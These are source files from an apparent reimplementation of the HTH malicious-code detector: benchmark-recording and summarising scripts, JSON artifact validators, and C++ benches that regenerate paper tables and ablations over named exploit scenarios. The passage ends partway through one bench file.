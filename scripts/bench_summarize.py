#!/usr/bin/env python3
"""Summarise google-benchmark JSON runs into a BENCH_*.json artifact.

Takes one or more --current runs (and optionally --baseline runs of a
pre-change build), extracts the median wall time and the counters per
benchmark, and emits one JSON object. When a baseline is present the
summary also carries baseline/current speedup ratios, computed from
medians pooled across all passed files so interleaved runs cancel
machine-speed drift.
"""

import argparse
import json
import os
import statistics
import sys


def fail(msg):
    print(f"bench_summarize: error: {msg}", file=sys.stderr)
    sys.exit(1)


def load_runs(paths, role):
    """benchmark name -> {"times_us": [...], "counters": {...}}."""
    merged = {}
    for path in paths:
        try:
            with open(path) as f:
                doc = json.load(f)
        except OSError as e:
            fail(f"cannot read {role} file '{path}': {e.strerror}")
        except json.JSONDecodeError as e:
            fail(f"{role} file '{path}' is not valid benchmark "
                 f"JSON: {e}")
        if "benchmarks" not in doc:
            fail(f"{role} file '{path}' has no 'benchmarks' key — "
                 f"was it produced with --benchmark_out_format=json?")
        for b in doc.get("benchmarks", []):
            # With --benchmark_report_aggregates_only the file holds
            # _mean/_median/_stddev rows; pool the _median ones.
            # Plain runs have run_type "iteration".
            name = b["name"]
            if b.get("run_type") == "aggregate":
                if not name.endswith("_median"):
                    continue
                name = name[: -len("_median")]
            entry = merged.setdefault(
                name, {"times_us": [], "counters": {}})
            scale = {"ns": 1e-3, "us": 1.0, "ms": 1e3, "s": 1e6}[
                b.get("time_unit", "ns")]
            entry["times_us"].append(b["real_time"] * scale)
            for key, value in b.items():
                if key in ("guest_insns/s", "bb_cache_hit%",
                           "union_cache_hit%", "events",
                           "rule_matches/event", "sessions_per_sec",
                           "hw_cores", "bytes_per_second",
                           "trace_bytes", "queue_high_water",
                           "backpressure_stalls"):
                    entry["counters"][key] = value
    return merged


def summarise(runs):
    out = {}
    for name, entry in sorted(runs.items()):
        out[name] = {
            "median_us": round(
                statistics.median(entry["times_us"]), 3),
            "runs_us": [round(t, 3) for t in entry["times_us"]],
        }
        out[name].update(
            {k: round(v, 3) for k, v in entry["counters"].items()})
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--current", action="append", required=True)
    ap.add_argument("--baseline", action="append", default=[])
    ap.add_argument("--baseline-ref", default=None)
    args = ap.parse_args()

    current = summarise(load_runs(args.current, "current"))
    if not current:
        fail("current run files contain no benchmarks")
    # Always record the machine's core count: scaling curves (e.g.
    # bench_fleet's worker sweep) are meaningless without it.
    hw_cores = os.cpu_count()
    doc = {"hw_cores": hw_cores, "current": current}

    if args.baseline:
        baseline = summarise(load_runs(args.baseline, "baseline"))
        shared = sorted(current.keys() & baseline.keys())
        if not shared:
            fail("baseline and current share no benchmark names — "
                 f"baseline has {sorted(baseline)[:5]}..., current "
                 f"has {sorted(current)[:5]}...; comparing different "
                 "suites?")
        # Suites drift between refs (benchmarks get added or
        # retired); report the asymmetry instead of dying on it —
        # speedups are computed over the shared names only.
        new_names = sorted(current.keys() - baseline.keys())
        gone_names = sorted(baseline.keys() - current.keys())
        print(f"bench_summarize: comparing {len(shared)} benchmarks "
              f"against {args.baseline_ref or 'baseline'} "
              f"on {hw_cores} cores")
        for name in new_names:
            print(f"  {name} (new — not in baseline)")
        for name in gone_names:
            print(f"  {name} (gone — baseline only)")
        doc["baseline"] = baseline
        doc["baseline_ref"] = args.baseline_ref
        if new_names:
            doc["new"] = new_names
        if gone_names:
            doc["gone"] = gone_names
        speedups = {}
        for name in shared:
            cur = current.get(name, {})
            base = baseline.get(name, {})
            if cur.get("median_us", 0) > 0 and "median_us" in base:
                speedups[name] = round(
                    base["median_us"] / cur["median_us"], 2)
        doc["speedup"] = speedups

    with open(args.out, "w") as f:
        json.dump(doc, f, indent=2)
        f.write("\n")


if __name__ == "__main__":
    main()
