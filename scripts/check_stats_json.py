#!/usr/bin/env python3
"""Validate an `hthd --stats-json` artifact.

The file is line-oriented JSON: every line must parse standalone,
the mandatory record types must be present, and the fleet-aggregated
numbers must be self-consistent (phase times summing to the run
total, session counts matching, core counters non-zero). Used as a
ctest smoke so a schema regression fails the build, not a consumer.

usage: check_stats_json.py <stats.json> [expected-sessions]
"""

import json
import sys


def fail(msg):
    print(f"check_stats_json: FAIL: {msg}", file=sys.stderr)
    sys.exit(1)


def main():
    if len(sys.argv) < 2:
        fail("usage: check_stats_json.py <stats.json> [sessions]")
    path = sys.argv[1]
    expected_sessions = (
        int(sys.argv[2]) if len(sys.argv) > 2 else None)

    records = []
    with open(path) as f:
        for lineno, line in enumerate(f, 1):
            line = line.strip()
            if not line:
                continue
            try:
                records.append(json.loads(line))
            except json.JSONDecodeError as e:
                fail(f"line {lineno} is not valid JSON: {e}")
    if not records:
        fail("file is empty")

    by_type = {}
    for r in records:
        if "type" not in r:
            fail(f"record without type: {r}")
        by_type.setdefault(r["type"], []).append(r)

    for required in ("fleet", "run", "phase", "counter", "anomaly"):
        if required not in by_type:
            fail(f"no '{required}' record")

    fleet = by_type["fleet"][0]
    for key in ("schema_version", "sessions", "completed", "failed",
                "cancelled", "flagged", "wall_seconds"):
        if key not in fleet:
            fail(f"fleet record lacks '{key}'")
    if fleet["schema_version"] != 3:
        fail(f"schema_version = {fleet['schema_version']}, this "
             f"checker validates version 3")
    if expected_sessions is not None:
        if fleet["sessions"] != expected_sessions:
            fail(f"fleet.sessions = {fleet['sessions']}, expected "
                 f"{expected_sessions}")
    if fleet["completed"] != fleet["sessions"]:
        fail("not every session completed")

    run = by_type["run"][0]
    if "profiled" not in run or "total_ns" not in run:
        fail("run record lacks profiled/total_ns")
    phase_ns = sum(p["ns"] for p in by_type["phase"])
    if run["profiled"] and phase_ns != run["total_ns"]:
        fail(f"phase ns sum {phase_ns} != total_ns "
             f"{run['total_ns']}")

    counters = {c["name"]: c["value"] for c in by_type["counter"]}
    for name in ("vm.instructions", "os.syscalls",
                 "secpert.events_analyzed", "fleet.sessions"):
        if name not in counters:
            fail(f"missing counter '{name}'")
        if counters[name] == 0:
            fail(f"counter '{name}' is zero")
    if counters["fleet.sessions"] != fleet["sessions"]:
        fail("counter fleet.sessions disagrees with fleet record")

    # The trace-engine counters must always be present so the
    # ablation is observable; zero values are legal (engine off, or
    # no loop ever got hot).
    for name in ("vm.superblock.formed", "vm.superblock.entered",
                 "vm.superblock.deopts", "vm.superblock.chained_exits",
                 "vm.dispatch.superblock_insns",
                 "vm.dispatch.generic_insns"):
        if name not in counters:
            fail(f"missing counter '{name}'")
    gauges = {g["name"]: g["value"]
              for g in by_type.get("gauge", [])}
    if "vm.dispatch.threaded" not in gauges:
        fail("missing gauge 'vm.dispatch.threaded'")
    if gauges["vm.dispatch.threaded"] not in (0, 1):
        fail("gauge 'vm.dispatch.threaded' must be 0 or 1")
    sb = counters["vm.dispatch.superblock_insns"]
    generic = counters["vm.dispatch.generic_insns"]
    if sb + generic != counters["vm.instructions"]:
        fail(f"dispatch split {sb}+{generic} != vm.instructions "
             f"{counters['vm.instructions']}")

    # The Rete matcher counters must always be present (zeros are
    # legal: an oracle matcher was selected, or no event ever built
    # a partial match), and the token balance must close: every
    # token ever created is either destroyed or still live in a
    # beta memory. beta_live is emitted as a counter precisely so
    # fleet aggregation (counters sum) keeps this equation true.
    for name in ("clips.rete.tokens_created",
                 "clips.rete.tokens_destroyed",
                 "clips.rete.join_attempts",
                 "clips.rete.beta_live"):
        if name not in counters:
            fail(f"missing counter '{name}'")
    created = counters["clips.rete.tokens_created"]
    destroyed = counters["clips.rete.tokens_destroyed"]
    live = counters["clips.rete.beta_live"]
    if created - destroyed != live:
        fail(f"rete token balance broken: created {created} - "
             f"destroyed {destroyed} != beta_live {live}")

    # Schema v3: every histogram record carries latency percentiles
    # derived from its pow2 buckets. They must be present, ordered
    # (p50 <= p95 <= p99 <= max) and inside the sampled range.
    histograms = by_type.get("histogram", [])
    if not histograms:
        fail("no 'histogram' record (fleet.session_us expected)")
    for h in histograms:
        for key in ("name", "count", "sum", "p50", "p95", "p99",
                    "buckets"):
            if key not in h:
                fail(f"histogram record lacks '{key}': {h}")
        if h["count"] == 0:
            continue
        if not (h["p50"] <= h["p95"] <= h["p99"]):
            fail(f"histogram '{h['name']}' percentiles not "
                 f"monotonic: p50={h['p50']} p95={h['p95']} "
                 f"p99={h['p99']}")
        # Each percentile is the inclusive upper bound of the pow2
        # bucket holding that ranked sample, so all three must be
        # actual bucket edges within the populated range.
        edges = [le for le, _ in h["buckets"]]
        if sum(n for _, n in h["buckets"]) != h["count"]:
            fail(f"histogram '{h['name']}' bucket counts do not "
                 f"sum to count {h['count']}")
        for p in ("p50", "p95", "p99"):
            if h[p] not in edges:
                fail(f"histogram '{h['name']}' {p}={h[p]} is not "
                     f"a bucket edge of {edges}")
    if not any(h["name"] == "fleet.session_us" for h in histograms):
        fail("missing histogram 'fleet.session_us'")

    # Anomaly summary: always emitted, so a consumer can distinguish
    # "no baseline was applied" from "the record went missing".
    anomaly = by_type["anomaly"][0]
    for key in ("enabled", "baseline", "scored", "anomalous"):
        if key not in anomaly:
            fail(f"anomaly record lacks '{key}'")
    if anomaly["anomalous"] > anomaly["scored"]:
        fail(f"anomaly.anomalous {anomaly['anomalous']} > scored "
             f"{anomaly['scored']}")
    if not anomaly["enabled"] and anomaly["scored"] != 0:
        fail("anomaly scoring disabled but sessions were scored")
    if anomaly["enabled"] and not anomaly["baseline"]:
        fail("anomaly scoring enabled without a baseline path")

    print(f"check_stats_json: OK ({len(records)} records, "
          f"{fleet['sessions']} sessions, "
          f"{len(counters)} counters)")


if __name__ == "__main__":
    main()
