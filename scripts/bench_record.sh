#!/usr/bin/env bash
#
# Record a benchmark suite into a BENCH_*.json artifact.
#
#   scripts/bench_record.sh [-o BENCH_PR2.json] [-b <git-ref>]
#                           [-r repetitions] [-t bench_target]
#
#   scripts/bench_record.sh -t bench_fleet -o BENCH_PR3.json
#
# Builds the Release bench binary (-t names the target; default
# bench_perf), runs it with
# --benchmark_format=json, and writes a summary JSON containing the
# median wall time and counters per benchmark. With -b, the given
# git ref is built in a temporary worktree and benchmarked
# INTERLEAVED with the current tree (run pairs back to back), so CPU
# frequency drift cancels out of the reported speedups; the output
# then carries both "baseline" and "current" sections plus ratios.
#
# Wall-clock comparisons against numbers recorded on another day or
# another machine are meaningless — always re-record the baseline.

set -euo pipefail

cd "$(dirname "$0")/.."

out=BENCH_PR2.json
baseline_ref=""
reps=5
target=bench_perf

while getopts "o:b:r:t:" opt; do
    case $opt in
      o) out=$OPTARG ;;
      b) baseline_ref=$OPTARG ;;
      r) reps=$OPTARG ;;
      t) target=$OPTARG ;;
      *) exit 2 ;;
    esac
done

build_bench() { # <src-dir> <build-dir>
    cmake -S "$1" -B "$2" -DCMAKE_BUILD_TYPE=Release >/dev/null
    cmake --build "$2" -j"$(nproc)" --target "$target" >/dev/null
}

run_bench() { # <build-dir> <json-out>
    "$1"/bench/"$target" \
        --benchmark_format=json \
        --benchmark_repetitions="$reps" \
        --benchmark_report_aggregates_only=true \
        >"$2"
}

echo "building current tree (Release)..."
build_bench . build-bench

baseline_wt=""
cleanup() {
    if [ -n "$baseline_wt" ]; then
        git worktree remove --force "$baseline_wt" 2>/dev/null || true
    fi
}
trap cleanup EXIT

if [ -n "$baseline_ref" ]; then
    baseline_wt=$(mktemp -d /tmp/hth-baseline.XXXXXX)
    rmdir "$baseline_wt"
    echo "building baseline $baseline_ref..."
    git worktree add --detach "$baseline_wt" "$baseline_ref" >/dev/null
    build_bench "$baseline_wt" "$baseline_wt/build-bench"
fi

tmp=$(mktemp -d)
echo "running current ($reps repetitions)..."
run_bench build-bench "$tmp/current.json"
if [ -n "$baseline_ref" ]; then
    echo "running baseline ($reps repetitions, interleaved)..."
    run_bench "$baseline_wt/build-bench" "$tmp/baseline.json"
    # Second interleaved pass: medians over both passes absorb any
    # frequency-scaling step between the two runs above.
    run_bench build-bench "$tmp/current2.json"
    run_bench "$baseline_wt/build-bench" "$tmp/baseline2.json"
fi

python3 scripts/bench_summarize.py \
    --out "$out" \
    --current "$tmp/current.json" \
    ${baseline_ref:+--current "$tmp/current2.json"} \
    ${baseline_ref:+--baseline "$tmp/baseline.json"} \
    ${baseline_ref:+--baseline "$tmp/baseline2.json"} \
    ${baseline_ref:+--baseline-ref "$baseline_ref"}

rm -rf "$tmp"
echo "wrote $out"
