#!/usr/bin/env bash
#
# Record a benchmark suite into a BENCH_*.json artifact.
#
#   scripts/bench_record.sh [-o BENCH_PR2.json] [-b <git-ref>]
#                           [-r repetitions] [-p passes]
#                           [-t bench_target]...
#
#   scripts/bench_record.sh -t bench_fleet -o BENCH_PR3.json
#   scripts/bench_record.sh -t bench_perf -t bench_fleet -o BENCH_PR5.json
#
# Builds the Release bench binaries (-t names a target and may be
# repeated; default bench_perf), runs each with
# --benchmark_format=json, and writes a summary JSON containing the
# median wall time and counters per benchmark. With -b, the given
# git ref is built in a temporary worktree and benchmarked
# INTERLEAVED with the current tree (-p alternating pass pairs,
# default 2, back to back), so CPU frequency drift cancels out of
# the reported speedups; the output then carries both "baseline"
# and "current" sections plus ratios. More, shorter passes (-p 4
# -r 3) cancel drift at a finer grain than the default.
#
# Wall-clock comparisons against numbers recorded on another day or
# another machine are meaningless — always re-record the baseline.

set -euo pipefail

cd "$(dirname "$0")/.."

out=BENCH_PR2.json
baseline_ref=""
reps=5
passes=2
targets=()

while getopts "o:b:r:p:t:" opt; do
    case $opt in
      o) out=$OPTARG ;;
      b) baseline_ref=$OPTARG ;;
      r) reps=$OPTARG ;;
      p) passes=$OPTARG ;;
      t) targets+=("$OPTARG") ;;
      *) exit 2 ;;
    esac
done
[ ${#targets[@]} -gt 0 ] || targets=(bench_perf)

build_bench() { # <src-dir> <build-dir>
    cmake -S "$1" -B "$2" -DCMAKE_BUILD_TYPE=Release >/dev/null
    cmake --build "$2" -j"$(nproc)" --target "${targets[@]}" \
        >/dev/null
}

run_bench() { # <build-dir> <json-out-prefix>
    local target
    for target in "${targets[@]}"; do
        "$1"/bench/"$target" \
            --benchmark_format=json \
            --benchmark_repetitions="$reps" \
            --benchmark_report_aggregates_only=true \
            >"$2.$target.json"
    done
}

echo "building current tree (Release)..."
build_bench . build-bench

baseline_wt=""
cleanup() {
    if [ -n "$baseline_wt" ]; then
        git worktree remove --force "$baseline_wt" 2>/dev/null || true
    fi
}
trap cleanup EXIT

if [ -n "$baseline_ref" ]; then
    baseline_wt=$(mktemp -d /tmp/hth-baseline.XXXXXX)
    rmdir "$baseline_wt"
    echo "building baseline $baseline_ref..."
    git worktree add --detach "$baseline_wt" "$baseline_ref" >/dev/null
    build_bench "$baseline_wt" "$baseline_wt/build-bench"
fi

tmp=$(mktemp -d)
if [ -n "$baseline_ref" ]; then
    # Alternating pass pairs: medians pooled over every pass absorb
    # frequency-scaling steps between any two runs.
    for pass in $(seq 1 "$passes"); do
        echo "pass $pass/$passes: current ($reps repetitions)..."
        run_bench build-bench "$tmp/current$pass"
        echo "pass $pass/$passes: baseline (interleaved)..."
        run_bench "$baseline_wt/build-bench" "$tmp/baseline$pass"
    done
else
    echo "running current ($reps repetitions)..."
    run_bench build-bench "$tmp/current1"
fi

args=(--out "$out")
for f in "$tmp"/current*.json; do args+=(--current "$f"); done
if [ -n "$baseline_ref" ]; then
    for f in "$tmp"/baseline*.json; do args+=(--baseline "$f"); done
    args+=(--baseline-ref "$baseline_ref")
fi
python3 scripts/bench_summarize.py "${args[@]}"

rm -rf "$tmp"
echo "wrote $out"
