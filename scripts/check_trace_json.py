#!/usr/bin/env python3
"""Validate an `hthd --trace-spans` artifact.

The file must be a single JSON object in the Chrome/Perfetto
`trace_event` format: a "traceEvents" array whose entries each carry
`ph`, `ts` and `pid`, with "X" complete events additionally carrying
`dur` and `name`, and every (pid, tid) lane announced by "M"
process_name/thread_name metadata. This is the structural subset
chrome://tracing and ui.perfetto.dev require to open the file at
all; used as a ctest smoke so an exporter regression fails the
build, not a trace viewer.

usage: check_trace_json.py <trace.json> [min-lanes]
"""

import json
import sys


def fail(msg):
    print(f"check_trace_json: FAIL: {msg}", file=sys.stderr)
    sys.exit(1)


def main():
    if len(sys.argv) < 2:
        fail("usage: check_trace_json.py <trace.json> [min-lanes]")
    path = sys.argv[1]
    min_lanes = int(sys.argv[2]) if len(sys.argv) > 2 else 1

    try:
        with open(path) as f:
            doc = json.load(f)
    except (OSError, json.JSONDecodeError) as e:
        fail(f"cannot load {path}: {e}")

    if not isinstance(doc, dict) or "traceEvents" not in doc:
        fail("top level must be an object with 'traceEvents'")
    events = doc["traceEvents"]
    if not isinstance(events, list) or not events:
        fail("'traceEvents' must be a non-empty array")

    named_lanes = set()
    span_lanes = set()
    complete = 0
    for i, ev in enumerate(events):
        for key in ("ph", "ts", "pid"):
            if key not in ev:
                fail(f"traceEvents[{i}] lacks '{key}': {ev}")
        ph = ev["ph"]
        if ph == "M":
            if ev.get("name") == "process_name":
                named_lanes.add(ev["pid"])
        elif ph == "X":
            for key in ("dur", "name", "tid"):
                if key not in ev:
                    fail(f"complete event [{i}] lacks '{key}': {ev}")
            if ev["dur"] < 0 or ev["ts"] < 0:
                fail(f"complete event [{i}] has negative time: {ev}")
            span_lanes.add(ev["pid"])
            complete += 1
        elif ph not in ("i", "I"):
            fail(f"traceEvents[{i}] has unexpected ph '{ph}'")

    if complete == 0:
        fail("no 'X' complete events — the trace is empty")
    unnamed = span_lanes - named_lanes
    if unnamed:
        fail(f"lanes {sorted(unnamed)} have spans but no "
             f"process_name metadata")
    if len(span_lanes) < min_lanes:
        fail(f"{len(span_lanes)} lanes with spans, expected at "
             f"least {min_lanes}")

    print(f"check_trace_json: OK ({complete} spans across "
          f"{len(span_lanes)} lanes)")


if __name__ == "__main__":
    main()
