/**
 * @file
 * Regenerates Table 1: execution patterns exhibited by the nine
 * malicious-code examples of §2.1. The marks are *measured* by
 * running each behavioural model under HTH and deriving the four
 * pattern signals, not hand-written.
 */

#include "bench/BenchUtil.hh"
#include "workloads/Characterize.hh"

using namespace hth;
using namespace hth::bench;
using namespace hth::workloads;

int
main()
{
    std::cout << "Table 1: Execution patterns exhibited by "
                 "malicious code (measured)\n\n";
    std::vector<int> widths = {22, 14, 10, 11, 12, 8};
    rule(widths);
    row(widths, {"Exploit Name", "No user", "Remotely", "Hard-coded",
                 "Degrading", "Matches"});
    row(widths, {"", "intervention", "directed", "resources",
                 "performance", "paper"});
    rule(widths);

    int mismatches = 0;
    for (const CharacterizedExploit &ce : characterizationModels()) {
        ScenarioResult result = runScenario(ce.scenario);
        PatternRow measured = derivePatterns(ce.scenario, result);
        bool matches =
            measured.noUserIntervention ==
                ce.expected.noUserIntervention &&
            measured.remotelyDirected == ce.expected.remotelyDirected &&
            measured.hardcodedResources ==
                ce.expected.hardcodedResources &&
            measured.degradingPerformance ==
                ce.expected.degradingPerformance;
        if (!matches)
            ++mismatches;
        row(widths, {ce.scenario.id, mark(measured.noUserIntervention),
                     mark(measured.remotelyDirected),
                     mark(measured.hardcodedResources),
                     mark(measured.degradingPerformance),
                     matches ? "yes" : "NO"});
    }
    rule(widths);
    std::cout << (mismatches == 0
                      ? "All nine patterns match the expected "
                        "characterisation.\n"
                      : "Some patterns diverge from the expected "
                        "characterisation!\n");
    return mismatches == 0 ? 0 : 1;
}
