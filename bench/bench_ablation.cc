/**
 * @file
 * Ablations of HTH's design choices (DESIGN.md):
 *
 *  1. gethostbyname short-circuit (§7.2) — with it, the trojaned
 *     pwsafe's drop address is recognised as hard-coded; without
 *     it, the resolved address carries the resolver database's
 *     provenance and the exfiltration severity drops.
 *  2. Trusted-library filtering (App. A.2) — with libc trusted, the
 *     ElmExploit system() execve of /bin/sh is suppressed; without
 *     it, every system() call raises a warning.
 *  3. Data-flow tracking (§7.3) — without taint, the information
 *     flow rules go blind (only execution-flow and resource-abuse
 *     rules still fire).
 */

#include <iostream>

#include "bench/BenchUtil.hh"
#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"

using namespace hth;
using namespace hth::bench;
using namespace hth::workloads;

namespace
{

Scenario
findScenario(std::vector<Scenario> list, const std::string &id)
{
    for (auto &s : list)
        if (s.id == id)
            return s;
    fatal("no scenario ", id);
}

void
report(const std::string &label, const Report &r)
{
    std::cout << "  " << std::left << std::setw(42) << label
              << " warnings=" << r.warnings.size()
              << " max-severity=" << severityCell(r) << "\n";
}

} // namespace

int
main()
{
    std::cout << "HTH design-choice ablations\n";

    {
        std::cout << "\n[1] gethostbyname short-circuit "
                     "(pwsafe exfiltration)\n";
        Scenario s = findScenario(macroScenarios(),
                                  "pwsafe (trojaned)");
        HthOptions on;
        on.harrier.shortCircuitHostResolution = true;
        HthOptions off;
        off.harrier.shortCircuitHostResolution = false;
        ScenarioResult with_sc = runScenario(s, on);
        ScenarioResult without_sc = runScenario(s, off);
        report("short-circuit ON  (address = hard-coded)",
               with_sc.report);
        report("short-circuit OFF (address = resolver db)",
               without_sc.report);
        if (with_sc.report.warnings.size() <=
            without_sc.report.warnings.size())
            std::cout << "  NOTE: expected the short-circuit to "
                         "surface more hard-coded-address warnings\n";
    }

    {
        std::cout << "\n[2] Trusted-library filtering "
                     "(ElmExploit system())\n";
        Scenario s = findScenario(exploitScenarios(), "ElmExploit");
        HthOptions trusted;        // default: libc + ld-linux trusted
        HthOptions paranoid;
        paranoid.policy.trustedBinaries.clear();
        ScenarioResult with_trust = runScenario(s, trusted);
        ScenarioResult without_trust = runScenario(s, paranoid);
        report("libc trusted   (system() filtered)",
               with_trust.report);
        report("nothing trusted (system() warned too)",
               without_trust.report);
        size_t execve_trusted =
            with_trust.report.countByRule("check_execve");
        size_t execve_paranoid =
            without_trust.report.countByRule("check_execve");
        std::cout << "  execve warnings: trusted=" << execve_trusted
                  << " paranoid=" << execve_paranoid << "\n";
    }

    {
        std::cout << "\n[3] Data-flow tracking (grabem)\n";
        Scenario s = findScenario(exploitScenarios(), "grabem");
        HthOptions with_taint;
        HthOptions without_taint;
        without_taint.taintTracking = false;
        ScenarioResult tainted = runScenario(s, with_taint);
        ScenarioResult blind = runScenario(s, without_taint);
        report("taint ON  (flows visible)", tainted.report);
        report("taint OFF (information-flow rules blind)",
               blind.report);
    }

    {
        std::cout << "\n[4] Data-flow tracking "
                     "(superforker: abuse rules survive)\n";
        Scenario s = findScenario(exploitScenarios(), "superforker");
        HthOptions without_taint;
        without_taint.taintTracking = false;
        ScenarioResult blind = runScenario(s, without_taint);
        report("taint OFF (clone counting still fires)",
               blind.report);
    }

    return 0;
}
