/**
 * @file
 * Regenerates Table 2: the data source × resource-ID-origin
 * combinations. For every combination the paper lists, a probe
 * guest obtains a resource name from that origin (command line,
 * file, socket or hard-coded binary data) and opens a file /
 * connects a socket with it; the bench then inspects the kernel's
 * resource table and reports the origin data sources HTH actually
 * recorded for the name.
 */

#include <iostream>

#include "bench/BenchUtil.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::bench;
using namespace hth::workloads;
using os::Kernel;
using os::RemotePeer;
using taint::SourceType;

namespace
{

enum class NameFrom { User, File, Socket, Binary };

const char *
nameFromLabel(NameFrom origin)
{
    switch (origin) {
      case NameFrom::User: return "USER_INPUT";
      case NameFrom::File: return "FILE";
      case NameFrom::Socket: return "SOCKET";
      case NameFrom::Binary: return "BINARY";
    }
    return "?";
}

/** Build a probe: obtain a name via @p origin, then use it. */
std::shared_ptr<const vm::Image>
makeProbe(bool socket_resource, NameFrom origin)
{
    Gasm a("/bench/table2_probe.exe");
    a.dataString("hard_file", "/tmp/hard.dat");
    a.dataString("hard_sock", "collector.example.com:9100");
    a.dataString("cfg_file", "names.cfg");
    a.dataString("name_srv", "namesrv.example.com:9200");
    a.dataSpace("namebuf", 48);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);

    // EAX <- name pointer.
    switch (origin) {
      case NameFrom::User:
        a.loadArgv(1);
        break;
      case NameFrom::Binary:
        a.leaSym(Reg::Eax, socket_resource ? "hard_sock"
                                           : "hard_file");
        break;
      case NameFrom::File:
        a.openSym("cfg_file", GO_RDONLY);
        a.mov(Reg::Ebp, Reg::Eax);
        a.readFd(Reg::Ebp, "namebuf", 47);
        a.closeFd(Reg::Ebp);
        a.leaSym(Reg::Eax, "namebuf");
        break;
      case NameFrom::Socket:
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "name_srv");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "namebuf");
        a.sockRecv(Reg::Ebp, Reg::Edx, 47);
        a.leaSym(Reg::Eax, "namebuf");
        break;
    }

    if (socket_resource) {
        a.mov(Reg::Edx, Reg::Eax);
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.sockConnect(Reg::Ebp, Reg::Edx);
    } else {
        a.openReg(Reg::Eax, GO_CREAT | GO_WRONLY);
    }
    a.exit(0);
    return a.build();
}

/** Origin types HTH recorded for the probe's resource name. */
std::string
observedOrigins(bool socket_resource, NameFrom origin)
{
    auto image = makeProbe(socket_resource, origin);
    Hth hth;
    Kernel &k = hth.kernel();
    k.vfs().addBinary(image->path, image);
    k.vfs().addFile("names.cfg", socket_resource
                                     ? "collector.example.com:9100"
                                     : "/tmp/from-config.dat");
    k.net().addHost("collector.example.com");
    k.net().addHost("namesrv.example.com");
    RemotePeer collector;
    collector.name = "collector.example.com:9100";
    k.net().addRemoteServer("collector.example.com:9100", collector);
    RemotePeer names;
    names.name = "namesrv.example.com:9200";
    names.onConnect = [socket_resource](os::RemoteConn &c) {
        c.send(socket_resource ? "collector.example.com:9100"
                               : "/tmp/from-remote.dat");
    };
    k.net().addRemoteServer("namesrv.example.com:9200", names);

    hth.monitor(image->path,
                {image->path,
                 socket_resource ? "collector.example.com:9100"
                                 : "/tmp/from-user.dat"});

    // Find the probe's final resource: the last FILE/SOCKET resource
    // that is not infrastructure (names.cfg / the name server).
    const taint::ResourceTable &resources = k.resources();
    taint::TagStore &tags = k.tagStore();
    for (taint::ResourceId id = (taint::ResourceId)resources.size();
         id-- > 0;) {
        const taint::Resource &res = resources.get(id);
        if (res.type !=
            (socket_resource ? SourceType::Socket : SourceType::File))
            continue;
        if (res.name == "names.cfg" ||
            res.name == "namesrv.example.com:9200" ||
            res.name == "STDOUT")
            continue;
        std::string out;
        for (const taint::Tag &tag : tags.tags(res.nameOrigin)) {
            if (!out.empty())
                out += "+";
            out += sourceTypeName(tag.type);
        }
        return out.empty() ? "(untracked)" : out;
    }
    return "(no resource)";
}

} // namespace

int
main()
{
    std::cout << "Table 2: Data source combinations (measured)\n\n";
    std::vector<int> widths = {12, 26, 22, 12};
    rule(widths);
    row(widths, {"Data Source", "Resource ID", "Origin (measured)",
                 "Expected"});
    rule(widths);

    row(widths, {"USER_INPUT", "--", "--", "--"});

    int mismatches = 0;
    for (NameFrom origin : {NameFrom::User, NameFrom::File,
                            NameFrom::Socket, NameFrom::Binary}) {
        std::string got = observedOrigins(false, origin);
        std::string want = nameFromLabel(origin);
        bool ok = got.find(want) != std::string::npos;
        if (!ok)
            ++mismatches;
        row(widths, {"FILE", "File name", got,
                     ok ? want : (want + " (MISMATCH)")});
    }
    for (NameFrom origin : {NameFrom::User, NameFrom::File,
                            NameFrom::Socket, NameFrom::Binary}) {
        std::string got = observedOrigins(true, origin);
        std::string want = nameFromLabel(origin);
        bool ok = got.find(want) != std::string::npos;
        if (!ok)
            ++mismatches;
        row(widths, {"SOCKET", "Socket name (address)", got,
                     ok ? want : (want + " (MISMATCH)")});
    }

    row(widths, {"BINARY", "--", "--", "--"});
    row(widths, {"HARDWARE", "--", "--", "--"});
    rule(widths);
    std::cout << (mismatches == 0
                      ? "All name-origin combinations tracked as "
                        "Table 2 specifies.\n"
                      : "MISMATCHES in origin tracking!\n");
    return mismatches == 0 ? 0 : 1;
}
