/**
 * @file
 * Regenerates Table 3: the information gathered at each
 * instrumentation granularity — and demonstrates the Figure 3
 * basic-block attribution: events raised from inside shared-object
 * code are attributed to the *last application* basic block.
 */

#include <iostream>

#include "bench/BenchUtil.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::bench;
using namespace hth::workloads;

int
main()
{
    std::cout << "Table 3: Information gathered at each "
                 "instrumentation granularity\n\n";
    std::vector<int> widths = {18, 14, 44};
    rule(widths);
    row(widths, {"Policy rule", "Granularity", "Information gathered"});
    rule(widths);
    row(widths, {"Information Flow", "Instruction",
                 "Data flow (reg/mem, mem/mem, reg/reg)"});
    row(widths, {"Information Flow", "Instruction",
                 "Hardware information (CPUID)"});
    row(widths, {"Code Frequency", "Basic Block", "BB frequency"});
    row(widths, {"Execution Flow", "Instruction",
                 "System calls (execve)"});
    row(widths, {"Resource Abuse", "Instruction",
                 "System calls (clone)"});
    row(widths, {"Information Flow", "Instruction",
                 "System calls (IO read/write)"});
    row(widths, {"Information Flow", "Image", "Binary load tagging"});
    row(widths, {"Information Flow", "Instruction",
                 "Initial stack location (USER_INPUT)"});
    row(widths, {"Information Flow", "Routine",
                 "'Short circuit' data flow (gethostbyname)"});
    rule(widths);

    //
    // Measured: run a guest whose execve fires from a loop that also
    // calls into libc (shared-object code) so the event's frequency
    // attribution must use the last *application* BB (Fig. 3).
    //
    Gasm a("/bench/granularity.exe");
    a.dataString("prog", "/bin/true");
    a.dataString("scratch", "xyz");
    a.dataSpace("copy", 16);
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebp, 0);
    a.label("loop");                // this BB runs 5 times
    a.libc2("strcpy", "copy", "scratch");  // shared-object excursion
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, 5);
    a.jl("loop");
    a.execveSym("prog");            // fires from a fresh BB
